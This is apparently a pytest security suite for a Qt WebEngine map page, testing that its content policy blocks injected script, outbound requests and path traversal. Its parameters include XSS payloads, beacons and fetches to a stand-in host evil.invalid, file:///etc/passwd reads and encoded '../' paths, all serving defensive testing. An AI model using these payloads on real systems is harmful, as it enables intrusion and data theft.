"""Nothing that came with a text runs, loads or leaves; the page reaches nothing."""

import json
import logging
from typing import Any

import pytest
from PySide6.QtCore import QFile, QIODevice, QUrl
from PySide6.QtWebEngineCore import QWebEngineSettings

from dateline.domain.view import View
from dateline.mapping.payload import payload
from dateline.mapping.policy import window_policy
from dateline.scene.build import build
from dateline.scene.theme import THEMES
from dateline.ui.map.scheme import CHANNEL_SOURCE, PAGE
from tests.dossiers import tiny
from tests.web.conftest import Show
from tests.web.hostile import PAYLOADS, key, poisoned
from tests.web.shown import WAIT_MS, Shown

pytestmark = pytest.mark.web

FOREIGN = """
Array.from(document.querySelectorAll('*'))
  .filter(e => !(/^(script|style)$/.test(e.localName) && e.nonce))
  .filter(e => !(e.localName === 'script' && e.type === 'application/json'))
  .map(e => e.localName).filter(name => ![
  'html', 'head', 'meta', 'title', 'body', 'div', 'span', 'ul', 'li',
  'button', 'canvas', 'svg', 'g', 'path', 'circle', 'rect', 'defs', 'pattern',
].includes(name))"""
HANDLERS = """
Array.from(document.querySelectorAll('*')).flatMap(e => Array.from(e.attributes))
  .filter(a => /^(on|src|href|style$)/.test(a.name))
  .filter(a => a.name !== 'style')
  .map(a => a.name + '=' + a.value)"""
SAYS = """
Array.from(document.querySelectorAll('.mark, .hit, .name.country.filled'),
  e => e.getAttribute('aria-label'))"""
HOVER = """
Array.from(document.querySelectorAll('.mark, .hit'), e => {
  const at = {clientX: 200, clientY: 200, bubbles: true};
  e.dispatchEvent(new MouseEvent('mousemove', at));
  return document.querySelector('.tooltip-name').textContent;
})"""


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def test_no_text_runs_loads_or_becomes_an_element(show: Show) -> None:
    shown = show(poisoned("plain"))
    for text in PAYLOADS:
        shown.state = View(selection=key("event", text))
        shown.draw(poisoned(text))
        told, heard, foreign, handlers, ran = shown.eval(
            f"[{HOVER}, {SAYS}, {FOREIGN}, {HANDLERS}, window.PWN ?? null]"
        )
        assert ran is None, text[:80]
        assert (foreign, handlers) == ([], []), text[:80]
        assert set(told) <= {_tooltip(item) for item in _items(shown)}, text[:80]
        assert len(heard) >= 4
        assert [label for label in heard if text[:20].strip() not in label] == []
    assert shown.is_clean()


def _items(shown: Shown) -> list[dict[str, Any]]:
    made = payload(build(shown.dossier, shown.state), THEMES["light"])
    return [*made["marks"], *made["links"]]


def _tooltip(item: dict[str, Any]) -> str:
    name: str = item["name"]
    return f"{name} (inferred)" if item.get("hollow") else name


def _ask(shown: Shown, script: str) -> None:
    shown.eval(f"(() => {{ {script}; return 1; }})()")


def test_policy_is_in_the_page_and_in_its_header(show: Show) -> None:
    shown = show(tiny())
    meta = "document.querySelector('meta[http-equiv]').content"
    now = shown.eval(meta)
    assert now == window_policy(
        shown.eval("document.querySelector('script[nonce]').nonce")
    )
    _ask(
        shown,
        "fetch('index.html').then(a => Promise.all([a.text(),"
        " a.headers.get('Content-Security-Policy')])).then(r => window.found = r)",
    )
    shown.wait_for("Boolean(window.found)")
    page, header = shown.eval("window.found")
    assert f'content="{header}"' in page
    assert header != now  # the word that lets our scripts run is another in each page
    for banned in ("unsafe-inline", "unsafe-eval", "http", "*", "dateline: 'nonce"):
        assert banned not in header


@pytest.mark.parametrize(
    "script",
    [
        "const s = document.createElement('script'); s.textContent = 'window.PWN=1';"
        " document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend',"
        " '<img src=x onerror=\"window.PWN=1\">')",
        "setTimeout(() => window.eval('window.PWN=1'), 0)",
        "setTimeout(() => new Function('window.PWN=1')(), 0)",
        "location.href = 'javascript:window.PWN=1'",
    ],
)
def test_the_policy_stops_script_that_is_not_ours(show: Show, script: str) -> None:
    # Not by way of a dossier: as if somebody had found one.
    shown = show(tiny())
    _ask(shown, script)
    shown.qtbot.waitUntil(lambda: bool(shown.view.console), timeout=WAIT_MS)
    assert shown.eval("window.PWN ?? null") is None


@pytest.mark.parametrize(
    "script",
    [
        "fetch('https://evil.invalid/').catch(() => 0)",
        "new Image().src = 'https://evil.invalid/x.png'",
        "new Image().src = 'file:///etc/passwd'",
        "navigator.sendBeacon('https://evil.invalid/', 'x')",
        "try { new WebSocket('wss://evil.invalid/') } catch (e) {}",
        "document.head.append(Object.assign(document.createElement('link'),"
        " {rel: 'stylesheet', href: 'https://evil.invalid/a.css'}))",
    ],
)
def test_no_request_leaves(show: Show, script: str) -> None:
    shown = show(tiny())
    _ask(shown, script)
    # Refused by the policy, before it becomes a request; the console says so.
    refusals = ("Content Security Policy", "Not allowed to load local resource")
    shown.qtbot.waitUntil(
        lambda: any(why in line for why in refusals for line in shown.view.console),
        timeout=WAIT_MS,
    )


def test_the_gate_blocks_what_the_policy_does_not_see(
    show: Show, caplog: pytest.LogCaptureFixture
) -> None:
    shown = show(tiny())
    address = "https://evil.invalid/download"
    with caplog.at_level(logging.WARNING):
        shown.view.page.download(QUrl(address))
        shown.qtbot.waitUntil(lambda: address in shown.view.blocked, timeout=WAIT_MS)


@pytest.mark.parametrize(
    "script",
    [
        "location.href = 'https://evil.invalid/'",
        "location.href = 'file:///etc/passwd'",
        "location.href = 'data:text/html,x'",
        "location.href = 'dateline://app/countries.json'",
        "const a = document.createElement('a'); a.href = 'https://evil.invalid/';"
        " document.body.append(a); a.click()",
        "const f = document.createElement('form'); f.action = 'https://evil.invalid/';"
        " document.body.append(f); f.submit()",
    ],
)
def test_the_page_goes_nowhere(
    show: Show, script: str, caplog: pytest.LogCaptureFixture
) -> None:
    shown = show(tiny())
    with caplog.at_level(logging.WARNING):
        _ask(shown, script)
        shown.qtbot.waitUntil(
            lambda: bool(caplog.records) or bool(shown.view.console), timeout=WAIT_MS
        )
    assert shown.eval("location.href") == PAGE
    assert shown.click(shown.middle(".mark[data-ref=oslo]")) == "oslo"


def test_no_window_opens(show: Show) -> None:
    shown = show(tiny())
    assert shown.eval("window.open('https://evil.invalid/')") is None


@pytest.mark.parametrize(
    "path",
    [
        "basemap/../../seeds/ORDER",
        "%2e%2e/%2e%2e/pyproject.toml",
        "SOURCES.toml",
        "basemap//etc/passwd",
        "vendor/leaflet-LICENSE.txt",
        "fonts/SourceSans3-Regular.ttf",
    ],
)
def test_only_the_pages_own_files_are_served(
    show: Show, path: str, caplog: pytest.LogCaptureFixture
) -> None:
    shown = show(tiny())
    with caplog.at_level(logging.WARNING):
        _ask(
            shown,
            f"fetch({json.dumps(path)}).then(a => window.found = a.status,"
            " () => window.found = 'refused')",
        )
        shown.wait_for("Boolean(window.found)")
    assert shown.eval("window.found") in (404, "refused")


def test_only_get_is_answered(show: Show, caplog: pytest.LogCaptureFixture) -> None:
    shown = show(tiny())
    with caplog.at_level(logging.WARNING):
        _ask(
            shown,
            "fetch('index.html', {method: 'POST', body: 'x'})"
            ".then(() => window.found = 'answered', () => window.found = 'refused')",
        )
        shown.wait_for("Boolean(window.found)")
    assert shown.eval("window.found") == "refused"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "chosen",
        "[]",
        '{"kind": "eval", "code": "1"}',
        '{"kind": ["chosen"], "ref": ""}',
        '{"kind": "chosen"}',
        '{"kind": "chosen", "ref": 5}',
        '{"kind": "chosen", "ref": "oslo", "more": 1}',
        '{"kind": "chosen", "ref": "no such thing"}',
        '{"kind": "drawn", "serial": true}',
        '{"kind": "moved", "lat": "x", "lon": 0, "zoom": 1}',
        '{"kind": "moved", "lat": 91, "lon": 0, "zoom": 1}',
        '{"kind": "moved", "lat": 1e999, "lon": 0, "zoom": 1}',
        '{"kind": "moved", "lat": NaN, "lon": 0, "zoom": 1}',
        "[" * 9000,
        '{"kind": "chosen", "ref": "' + "A" * 20_000 + '"}',
    ],
)
def test_what_the_page_may_not_say_is_refused(
    show: Show, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    shown = show(tiny())
    before = shown.view.camera
    with (
        caplog.at_level(logging.WARNING),
        shown.qtbot.assertNotEmitted(shown.view.chosen),
        shown.qtbot.assertNotEmitted(shown.view.moved),
    ):
        shown.view.bridge.receive(text)
    assert "refused" in caplog.text
    assert shown.view.camera == before


def test_the_bridge_offers_nothing_but_text(show: Show) -> None:
    shown = show(tiny())
    offered = set(dir(type(shown.view.bridge))) - set(
        dir(type(shown.view.bridge).__base__)
    )
    assert {name for name in offered if not name.startswith("_")} == {
        "message",
        "receive",
    }


def test_what_a_map_does_not_need_is_off(show: Show) -> None:
    settings = show(tiny()).view.page.settings()
    attributes = QWebEngineSettings.WebAttribute
    for attribute in (
        attributes.LocalContentCanAccessRemoteUrls,
        attributes.LocalContentCanAccessFileUrls,
        attributes.JavascriptCanOpenWindows,
        attributes.JavascriptCanAccessClipboard,
        attributes.PluginsEnabled,
        attributes.PdfViewerEnabled,
        attributes.LocalStorageEnabled,
    ):
        assert not settings.testAttribute(attribute)


def test_nothing_of_a_visit_is_kept(show: Show) -> None:
    assert show(tiny()).view.page.profile().isOffTheRecord()


def test_the_channels_script_is_qts_own() -> None:
    source = QFile(CHANNEL_SOURCE)
    assert source.open(QIODevice.OpenModeFlag.ReadOnly)
    assert b"QWebChannel" in bytes(source.readAll().data())
